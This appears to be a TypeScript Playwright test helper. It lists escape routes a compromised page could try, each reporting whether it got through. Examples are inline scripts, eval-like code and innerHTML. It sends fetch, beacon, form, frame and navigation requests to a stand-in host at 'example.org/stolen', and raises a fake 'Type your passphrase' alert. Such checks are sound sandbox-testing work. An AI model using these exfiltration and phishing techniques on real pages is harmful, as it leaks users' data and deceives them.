import type { Page } from 'playwright-core';

/** What a page that has been taken over could try. Each tells whether it got through. */
export type WayOut = (page: Page, arrivalMs: number) => Promise<boolean>;

const foreign = 'https://example.org/stolen';

/** Whether a request for the foreign host got an answer. */
async function reachesForeignHost(
  page: Page,
  arrivalMs: number,
  attempt: () => Promise<unknown>,
): Promise<boolean> {
  const waiting = page
    .waitForResponse((response) => response.url().startsWith(foreign), { timeout: arrivalMs })
    .catch(() => undefined);
  await attempt().catch(() => {});
  const answer = await waiting;
  const hasLeft = answer?.request().isNavigationRequest() === true && answer.frame() === page.mainFrame();
  if (hasLeft) await page.waitForURL(/example\.org/u);
  return answer !== undefined;
}

export const waysOut: Readonly<Record<string, WayOut>> = {
  'an inline script': (page) =>
    page.evaluate(() => {
      const script = document.createElement('script');
      try {
        script.append('window.isInlineScriptRun = true');
        document.body.append(script);
      } catch {
        return false;
      }
      return 'isInlineScriptRun' in window;
    }),
  'text that becomes code': (page) =>
    page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          // In a task of its own: what a debugger evaluates may always do this.
          setTimeout(() => {
            try {
              resolve(
                new (Object.getPrototypeOf(() => {}).constructor as FunctionConstructor)('return 2')() === 2,
              );
            } catch {
              resolve(false);
            }
          }, 0);
        }),
    ),
  'text that becomes markup': (page) =>
    page.evaluate(() => {
      const element = document.createElement('div');
      try {
        element.innerHTML = '<b>bold</b>';
      } catch {
        return false;
      }
      return element.querySelector('b') !== null;
    }),
  'an inline style sheet': (page) =>
    page.evaluate(() => {
      const style = document.createElement('style');
      style.textContent = 'body { outline-width: 7px; outline-style: solid }';
      document.head.append(style);
      return getComputedStyle(document.body).outlineWidth === '7px';
    }),
  'a request by fetch': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () => page.evaluate((url) => fetch(url), foreign)),
  'an image': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => {
        const image = new Image();
        image.src = url;
        document.body.append(image);
      }, foreign),
    ),
  'a frame': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => {
        const frame = document.createElement('iframe');
        frame.src = url;
        document.body.append(frame);
      }, foreign),
    ),
  'a style sheet': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => {
        const link = document.createElement('link');
        link.rel = 'stylesheet';
        link.href = url;
        document.head.append(link);
      }, foreign),
    ),
  'a beacon': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => navigator.sendBeacon(url, 'stolen'), foreign),
    ),
  'a form': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => {
        const form = document.createElement('form');
        form.action = url;
        document.body.append(form);
        form.submit();
      }, foreign),
    ),
  'a link': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => {
        const link = document.createElement('a');
        link.href = url;
        document.body.append(link);
        link.click();
      }, foreign),
    ),
  'a change of place': (page, arrivalMs) =>
    reachesForeignHost(page, arrivalMs, () =>
      page.evaluate((url) => {
        location.href = url;
      }, foreign),
    ),
  'another window': async (page, arrivalMs) => {
    const opened = page.context().waitForEvent('page', { timeout: arrivalMs });
    await page.evaluate((url) => void window.open(url), foreign);
    const popup = await opened.catch(() => undefined);
    if (popup === undefined) return false;
    await popup.waitForLoadState().catch(() => {});
    return !popup.isClosed() && popup.url().startsWith('https://example.org');
  },
  printing: (page, arrivalMs) =>
    page.evaluate(
      (patienceMs) =>
        new Promise<boolean>((resolve) => {
          window.addEventListener('beforeprint', () => resolve(true));
          setTimeout(() => resolve(false), patienceMs);
          window.print();
        }),
      arrivalMs,
    ),
  'a dialog that stops everything': async (page, arrivalMs) => {
    const opened = page.waitForEvent('dialog', { timeout: arrivalMs }).catch(() => undefined);
    // In a task of its own: it would stop what evaluates it.
    await page.evaluate(() => void setTimeout(() => window.alert('Type your passphrase'), 0));
    const dialog = await opened;
    await dialog?.dismiss();
    return dialog !== undefined;
  },
  'a download': async (page, arrivalMs) => {
    const begun = page.waitForEvent('download', { timeout: arrivalMs }).catch(() => undefined);
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = URL.createObjectURL(new Blob(['stolen']));
      link.download = 'stolen.txt';
      document.body.append(link);
      link.click();
    });
    return (await begun) !== undefined;
  },
};
